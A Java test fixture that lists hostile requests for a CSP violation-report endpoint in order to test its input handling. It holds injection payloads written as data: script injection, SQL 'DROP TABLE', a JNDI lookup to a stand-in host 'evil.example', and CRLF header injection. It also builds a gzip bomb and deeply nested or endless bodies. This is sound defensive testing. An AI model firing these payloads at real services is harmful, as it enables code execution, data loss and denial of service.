package io.github.hushgate.report;

import static io.github.hushgate.report.Endpoints.entry;
import static io.github.hushgate.report.Endpoints.legacy;
import static io.github.hushgate.report.Endpoints.violation;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.function.Supplier;
import java.util.zip.GZIPOutputStream;

/** What somebody may send who wishes the endpoint no good, each under its name. */
public final class HostileCases {
    /** A report that is as good as any. */
    public static final String GOOD = legacy("https://good.example/x");

    /** What must not stand in anything that is kept. */
    public static final List<String> HARM =
            List.of("<script", "\u001b", "\r", "\n", "\u2028", "onerror", "\ud800", "'); DROP");

    /**
     * One request.
     *
     * @param name what is odd about it
     * @param method of HTTP
     * @param headers beside those of any request, the media type among them
     * @param body a new stream each time
     * @param stored violations that are kept of it
     */
    public record Case(
            String name, String method, Map<String, String> headers, Supplier<InputStream> body, int stored) {
        private Case with(String header, String value) {
            Map<String, String> more = new TreeMap<>(headers);
            more.put(header, value);
            return new Case(name, method, more, body, stored);
        }

        private Case by(String method) {
            return new Case(name, method, headers, body, stored);
        }
    }

    private final List<Case> cases = new ArrayList<>();

    private HostileCases() {}

    /** All of them. */
    public static List<Case> all() {
        HostileCases all = new HostileCases();
        all.notJson();
        all.wrongShapes();
        all.deepLongAndMany();
        all.duplicates();
        all.oddValues();
        all.oddTexts();
        all.heads();
        return all.cases;
    }

    private void body(String name, String body, int stored) {
        bytes(name, body.getBytes(StandardCharsets.UTF_8), stored);
    }

    private void bytes(String name, byte[] body, int stored) {
        stream(name, () -> new ByteArrayInputStream(body), stored);
    }

    private void stream(String name, Supplier<InputStream> body, int stored) {
        cases.add(of(name, body, stored));
    }

    private static Case of(String name, Supplier<InputStream> body, int stored) {
        return new Case(name, "POST", Map.of("Content-Type", "application/csp-report"), body, stored);
    }

    private static Case good(String name, int stored) {
        return of(name, () -> new ByteArrayInputStream(GOOD.getBytes(StandardCharsets.UTF_8)), stored);
    }

    private void notJson() {
        body("nothing", "", 0);
        body("white space", " \n\t ", 0);
        body("a word", "hello", 0);
        body("HTML", "<html><script>alert(1)</script>", 0);
        body("half an object", "{\"csp-report\":{\"document-uri\":\"https://www.police.test/", 0);
        body("half an array keeps its whole entries", "[" + violation("https://a.example/") + ",{\"type\":", 1);
        body("no comma", "[" + violation("https://a.example/") + violation("https://b.example/") + "]", 1);
        body("single quotes", GOOD.replace('"', '\''), 0);
        body("a comment", "/* x */" + GOOD, 0);
        body("a trailing comma", "[" + violation("https://a.example/") + ",]", 1);
        body("NaN", "{\"csp-report\":{\"status-code\":NaN}}", 0);
        body("trailing garbage", GOOD + "garbage", 0);
        body("two objects", GOOD + GOOD, 0);
        body("trailing bracket", GOOD + "]", 0);
        bytes("a byte order mark in UTF-16", GOOD.getBytes(StandardCharsets.UTF_16), 1);
        bytes("NUL bytes", new byte[1_000], 0);
        bytes("binary", new byte[] {(byte) 0xff, (byte) 0xd8, (byte) 0xff, 0x10}, 0);
        bytes("invalid UTF-8", withByte("https://a.example/\u0001", (byte) 0xc3), 0);
        bytes("an overlong slash", withByte("https://a.example/\u0001", (byte) 0xc0), 0);
    }

    private static byte[] withByte(String blocked, byte bad) {
        byte[] bytes = legacy(blocked).getBytes(StandardCharsets.UTF_8);
        for (int i = 0; i < bytes.length; i++) {
            bytes[i] = bytes[i] == 1 ? bad : bytes[i];
        }
        return bytes;
    }

    private void wrongShapes() {
        body("null", "null", 0);
        body("a number", "42", 0);
        body("a string", "\"csp-report\"", 0);
        body("an empty object", "{}", 0);
        body("an empty array", "[]", 0);
        body("nested arrays", "[[[" + violation("https://a.example/") + "]]]", 0);
        body("a null report", "{\"csp-report\":null}", 0);
        body("a report that is a list", "{\"csp-report\":[]}", 0);
        body("an empty report", "{\"csp-report\":{}}", 0);
        body("a null body", "[{\"type\":\"csp-violation\",\"url\":\"https://www.police.test/\",\"body\":null}]", 0);
        body("no body", "[{\"type\":\"csp-violation\"}]", 0);
        body("no type", "[{\"body\":{\"blockedURL\":\"inline\"}}]", 0);
        body("a type that is a number", "[{\"type\":1,\"body\":{}}]", 0);
        body(
                "bad entries between good ones",
                "[1," + violation("https://a.example/") + ",null," + violation("https://b.example/") + ",\"x\"]",
                2);
        body("Safari's bare object", violation("https://a.example/"), 1);
        body("a legacy report in an array", "[" + GOOD + "]", 1);
        body("an unknown type", "[{\"type\":\"<script>alert(1)</script>\",\"body\":{}}]", 0);
        body("a deprecation is no violation", "[{\"type\":\"deprecation\",\"body\":{\"id\":\"x\"}}]", 0);
    }

    private void deepLongAndMany() {
        body("arrays 200,000 deep", "[".repeat(200_000), 0);
        body("objects 20,000 deep", "{\"a\":".repeat(20_000), 0);
        body(
                "seventeen levels cost only their entry",
                "[" + entry("{\"x\":" + "[".repeat(17) + "]".repeat(17) + "}") + "," + violation("https://a.example/")
                        + "]",
                1);
        stream("a field of 50 MB", () -> new Endless("{\"csp-report\":{\"blocked-uri\":\"", 50_000_000), 0);
        body("a field of 200 KB", legacy("https://a.example/" + "a".repeat(200_000)), 1);
        body("a body one byte too long", GOOD + " ".repeat(256 * 1024 + 1 - GOOD.length()), 0);
        body("10,000 entries: the first 200", "[" + "1,".repeat(9_999) + "1]", 0);
        body("201 good entries", "[" + (violation("inline") + ",").repeat(200) + violation("inline") + "]", 200);
        body("20,000 different keys", manyKeys(), 1);
        body("a key of 100 KB", "{\"" + "k".repeat(100_000) + "\":1,\"csp-report\":{\"blocked-uri\":\"inline\"}}", 0);
        body("a number of 5,000 digits", legacyWith("\"status-code\":" + "9".repeat(5_000)), 0);
        stream("a body that never ends", () -> new Endless("", Long.MAX_VALUE), 0);
    }

    private static String manyKeys() {
        StringBuilder keys = new StringBuilder("{\"csp-report\":{\"blocked-uri\":\"inline\"");
        for (int i = 0; i < 20_000; i++) {
            keys.append(",\"k").append(i).append("\":0");
        }
        return keys.append("}}").toString();
    }

    private void duplicates() {
        body("a field twice", legacyWith("\"blocked-uri\":\"chrome-extension\""), 0);
        body("a field under two of its names", legacyWith("\"blockedURL\":\"chrome-extension\""), 0);
        body("two reports in one object", "{\"csp-report\":{\"blocked-uri\":\"eval\"},\"csp-report\":{}}", 0);
        body(
                "a report and a body",
                "{\"csp-report\":{\"blocked-uri\":\"eval\"},\"type\":\"csp-violation\",\"body\":{}}",
                0);
        body(
                "a duplicate costs only its entry",
                "[" + entry("{\"blockedURL\":\"a\",\"blockedURL\":\"b\"}") + "," + violation("https://a.example/")
                        + "]",
                1);
    }

    private static String legacyWith(String field) {
        return GOOD.replace("\"csp-report\":{", "\"csp-report\":{" + field + ",")
                .replace(",\"status-code\":200", "");
    }

    private void oddValues() {
        body("numbers as strings", legacyWith("\"line-number\":\"12\",\"status-code\":\"200\""), 1);
        body("negative lines", legacyWith("\"line-number\":-5,\"column-number\":-1"), 1);
        body("huge lines", legacyWith("\"line-number\":99999999999999999999"), 1);
        body("fractions", legacyWith("\"line-number\":1.5,\"column-number\":1e300"), 1);
        body("booleans", legacyWith("\"line-number\":true,\"source-file\":false"), 1);
        body("objects for texts", legacyWith("\"source-file\":{\"a\":1},\"line-number\":[1]"), 1);
        body(
                "nulls everywhere",
                entry("{\"documentURL\":null,\"effectiveDirective\":\"img-src\",\"blockedURL\":null,"
                        + "\"sourceFile\":null,\"lineNumber\":null,\"disposition\":null,\"sample\":null}"),
                1);
        body("an empty blocked address", legacy(""), 1);
        body("a foreign document", GOOD.replace("www.police.test", "evil.example"), 0);
        body(
                "a document that only looks like ours",
                GOOD.replace("www.police.test", "www.police.test.evil.example"),
                0);
        body("a document with our name as user", GOOD.replace("www.police.test", "www.police.test@evil.example"), 0);
        body("a document that is no address", GOOD.replace("https://www.police.test/report", "::::"), 0);
        body("a directive nobody knows", GOOD.replace("img-src", "<script>alert(1)</script>"), 1);
    }

    private void oddTexts() {
        body(
                "XSS in every field",
                GOOD.replace("img-src", "\\\"><script>")
                        .replace("enforce", "<script>")
                        .replace("https://good.example/x", "https://x.example/<script>alert(1)</script>"),
                1);
        body("CRLF and ANSI", legacy("https://a.example/\\r\\nSet-Cookie: a\\u001b[31m"), 1);
        body("line separators", legacy("https://a.example/\\u2028\\u2029"), 1);
        body("a lone surrogate", legacy("https://a.example/\\ud800"), 1);
        body("a lone surrogate for a host", legacy("https://\\ud800.example/"), 1);
        body("bidi marks", legacy("https://a.example/\\u202e\\u2066"), 1);
        body("SQL", legacy("https://a.example/'); DROP TABLE reports;--"), 1);
        body("a template", legacy("https://a.example/${jndi:ldap://evil.example/a}"), 1);
        body("a made-up scheme", legacy("jane-doe-was-here:secret"), 1);
        body("a bare word", legacy("jane-doe-was-here"), 1);
        body("javascript", legacy("javascript:alert(1)"), 1);
    }

    private void heads() {
        cases.add(good("GET", 0).by("GET"));
        cases.add(good("PUT", 0).by("PUT"));
        cases.add(good("a form", 0).with("Content-Type", "application/x-www-form-urlencoded"));
        cases.add(good("text", 0).with("Content-Type", "text/plain"));
        cases.add(
                good("a media type with parameters", 1).with("Content-Type", "Application/CSP-Report; charset=utf-8"));
        byte[] bomb = gzipBomb();
        cases.add(of("gzip", () -> new ByteArrayInputStream(bomb), 0).with("Content-Encoding", "gzip"));
        bytes("gzip without saying so", bomb, 0);
        cases.add(good("another site's origin", 0).with("Origin", "https://evil.example"));
        cases.add(good("an opaque origin", 1).with("Origin", "null"));
        stream("a connection that breaks", Broken::new, 0);
    }

    private static byte[] gzipBomb() {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (GZIPOutputStream gzip = new GZIPOutputStream(bytes)) {
            gzip.write(new byte[10_000_000]);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    /** Some text, then the letter a, so many times. */
    private static final class Endless extends InputStream {
        private final byte[] head;
        private final long length;
        private long at;

        Endless(String head, long length) {
            this.head = head.getBytes(StandardCharsets.UTF_8);
            this.length = length;
        }

        @Override
        public int read() {
            if (at >= length) {
                return -1;
            }
            return at++ < head.length ? head[(int) at - 1] : 'a';
        }
    }

    private static final class Broken extends InputStream {
        @Override
        public int read() throws IOException {
            throw new IOException("reset");
        }
    }
}
